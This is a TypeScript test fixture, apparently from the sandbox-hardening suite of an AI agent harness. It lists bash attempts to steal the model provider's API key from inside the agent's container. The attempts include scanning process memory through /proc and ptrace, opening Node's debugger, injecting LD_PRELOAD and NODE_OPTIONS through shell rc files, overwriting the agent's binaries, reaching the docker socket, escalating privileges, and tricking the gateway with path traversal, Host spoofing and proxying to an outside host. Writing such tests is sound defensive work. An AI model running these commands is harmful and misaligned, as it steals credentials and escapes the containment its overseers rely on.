/**
 * What hostile code tries that wants the provider's key, each as a line of bash in the agent's container. Every secret of
 * these tests begins with PREY; what is found is turned around, since the agent takes its own secrets out of what leaves.
 */
import type { Attempt } from "./network-fence-escapes.ts";

export const PREY = "prey-";

export interface Theft extends Attempt {
  /** It finds the secret that is meant for the model's shell: so it finds secrets, and the key is not among them. */
  readonly finds?: true;
}

export const THIEVES_TOOLS = `
got() { echo "got-$1"; }
prey() { grep -a -o 'prey-[a-z0-9-]*' | rev | sort -u; }
get() { curl -sS -m 4 "$@"; }
# Reads all of a process's memory that it can.
cat > memory.py <<'END'
import re, sys
for process in sys.argv[1:]:
  try:
    with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
      for line in maps:
        place, rights = line.split()[:2]
        start, end = (int(one, 16) for one in place.split("-"))
        if "r" not in rights or end - start > 1 << 28: continue
        try:
          memory.seek(start)
          for found in re.findall(rb"prey-[a-z0-9-]*", memory.read(end - start)): print(found.decode()[::-1])
        except (OSError, OverflowError, ValueError): pass
  except OSError as error: print(process, error.strerror)
END
cat > trace.py <<'END'
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
for process in map(int, sys.argv[1:]):
  for request in (16, 0x4206):
    print(process, os.strerror(ctypes.get_errno()) if libc.ptrace(request, process, 0, 0) else "traced")
    libc.ptrace(17, process, 0, 0)
END
# The agent and its init.
agents() { for at in /proc/[0-9]*; do case "$(cat $at/comm 2>/dev/null)" in init|node|MainThread) echo "\${at#/proc/}";; esac; done; }
others() { for at in /proc/[0-9]*; do [ "\${at#/proc/}" = $$ ] || echo "\${at#/proc/}"; done; }
`;

const processes: readonly Theft[] = [
  { name: "its own environment", run: "env | prey", finds: true },
  { name: "everybody's environment", run: "cat /proc/[0-9]*/environ | prey", finds: true },
  { name: "everybody's command line", run: "cat /proc/[0-9]*/cmdline | prey" },
  { name: "its own memory", run: "python3 memory.py self", finds: true },
  { name: "everybody's memory", run: "python3 memory.py $(others)" },
  { name: "the agent's memory", run: "python3 memory.py $(agents)" },
  { name: "everybody's open files", run: "cat /proc/[0-9]*/fd/* < /dev/null | head -c 1000000 | prey" },
  { name: "a tracer on the agent", run: "python3 trace.py $(agents)" },
  {
    name: "another process's memory by process_vm_readv",
    run: "python3 -c 'import ctypes, os, sys; libc = ctypes.CDLL(None, use_errno=True); buffer = ctypes.create_string_buffer(64); vec = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64); far = (ctypes.c_size_t * 2)(0x400000, 64); [print(pid, libc.process_vm_readv(pid, vec, 1, far, 1, 0), os.strerror(ctypes.get_errno())) for pid in map(int, sys.argv[1:])]' $(agents)",
  },
  {
    name: "Node's debugger, opened by a signal",
    run: "for pid in $(agents); do kill -USR1 $pid; done; sleep 1; for port in 9229 9230; do get http://127.0.0.1:$port/json && got debugger; done",
  },
  {
    name: "Node's debugger at the gateway",
    run: "for port in 9229 9230; do get http://gateway:$port/json && got debugger; done",
  },
  {
    name: "the kernel's log and key rings",
    run: "cat /proc/keys /proc/kmsg /proc/kcore | head -c 1000000 | prey; dmesg | prey",
  },
  {
    name: "all files that it can read",
    run: "grep -r -a -h -o -I 'prey-[a-z0-9-]*' /etc /run /tmp /var/tmp /home /opt /dev/shm /mnt /root /var/lib /var/log 2>/dev/null | rev | sort -u",
  },
];

const others: readonly Theft[] = [
  {
    name: "another user, by set-uid programs",
    run: "for program in su sudo newgrp passwd mount; do [ \"$(echo | timeout 2 $program -c 'id -u')\" = 0 ] && got root; done; true",
  },
  {
    name: "another user, by the kernel",
    run: "for id in 0 10002 1000; do python3 -c \"import os; os.setuid($id); print('got-uid')\"; python3 -c \"import os; os.setgroups([$id]); print('got-gid')\"; done",
  },
  {
    name: "another user, in a namespace of its own",
    run: "unshare --user --map-root-user true && got namespace",
  },
  { name: "the namespaces of the agent's init", run: "nsenter --target 1 --all true && got namespace" },
  {
    name: "a library in front of everybody's, by /etc/ld.so.preload",
    run: "echo /workspace/steal.so > /etc/ld.so.preload && got preload",
  },
  {
    name: "a library in front of the agent's children, by LD_PRELOAD",
    run: "printf 'export LD_PRELOAD=/workspace/steal.so\\nenv > /workspace/stolen\\n' | tee -a ~/.bashrc ~/.profile ~/.bash_profile ~/.bash_env >/dev/null; bash -l -c true; prey < /workspace/stolen",
    finds: true,
  },
  {
    name: "a program of Node's before the agent's, by NODE_OPTIONS",
    run: "echo 'require(\"fs\").writeFileSync(\"/workspace/stolen2\", JSON.stringify(process.env))' > steal.cjs; NODE_OPTIONS='--require /workspace/steal.cjs' node -e 0; prey < stolen2",
    finds: true,
  },
  {
    name: "another node, git or agent in the place of the real one",
    run: "for at in /usr/local/bin/node /usr/bin/git /opt/journeyman/init /opt/journeyman/dist/agent/main.js /usr/local/bin/gateway; do echo x >> $at && got written; rm -f $at && got removed; done",
  },
  { name: "a copy of node that can be read", run: "cp /usr/local/bin/node /tmp/node && got copied" },
  {
    name: "docker's own socket",
    run: "for at in /var/run/docker.sock /run/docker.sock; do get --unix-socket $at http://docker/containers/json && got docker; done",
  },
];

/** At the gateway: calls that are not the model's, and calls of the model's that are made to say more than they should. */
const calls: readonly Theft[] = [
  { name: "a path that is none of the model's calls", run: "get http://gateway:8080/v1/files | prey" },
  { name: "the same with a body", run: "get -d '{}' http://gateway:8080/v1/messages/batches | prey" },
  {
    name: "a path that climbs",
    run: "get --path-as-is -d '{}' http://gateway:8080/v1/messages/../files | prey; get --path-as-is http://gateway:8080/v1/models/../files | prey; get --path-as-is http://gateway:8080/v1/models/..%2ffiles | prey",
  },
  {
    name: "a path that begins twice",
    run: "get --path-as-is -d '{}' http://gateway:8080//thief.example.org/v1/messages | prey",
  },
  {
    name: "a whole address of another server",
    run: "get --proxy http://gateway:8080 http://$THIEF/v1/messages -d '{}' | prey",
  },
  {
    name: "CONNECT to another server",
    run: "get -p --proxy http://gateway:8080 http://$THIEF/v1/messages -d '{}' | prey",
  },
  {
    name: "another server, by the Host header",
    run: 'get -H "Host: $THIEF" -H "X-Forwarded-Host: $THIEF" -H "Forwarded: host=$THIEF" -d \'{"model":"m","max_tokens":1,"messages":[]}\' http://gateway:8080/v1/messages | prey',
  },
  {
    name: "a method that gives back what was sent",
    run: "for method in TRACE OPTIONS PUT DELETE PATCH HEAD; do get -i -X $method http://gateway:8080/v1/messages; done | prey",
  },
  {
    name: "a key of its own in the place of the run's",
    run: "get -H 'x-api-key: mine' -H 'authorization: Bearer mine' -d '{' http://gateway:8080/v1/messages | prey",
  },
  {
    name: "an error that says what was sent",
    run: 'for body in \'{\' \'[]\' \'{"model":1}\' \'{"model":"x","max_tokens":-1,"messages":0}\'; do get -d "$body" http://gateway:8080/v1/messages; done | prey',
  },
  {
    name: "a header that is too long or holds what headers may not",
    run: "get -H \"anthropic-version: $(printf 'a%.0s' {1..9000})\" -H 'anthropic-beta: x, prey' -d '{}' http://gateway:8080/v1/messages | prey",
  },
  {
    name: "what the run has cost, and what was refused",
    run: "get http://gateway:8080/spent | prey; get 'http://gateway:8080/refusals?after=0' | prey",
  },
  { name: "the provider itself, without the gateway", run: "get http://$PROVIDER/v1/models | prey" },
];

export const THEFTS: readonly Theft[] = [...processes, ...others, ...calls];
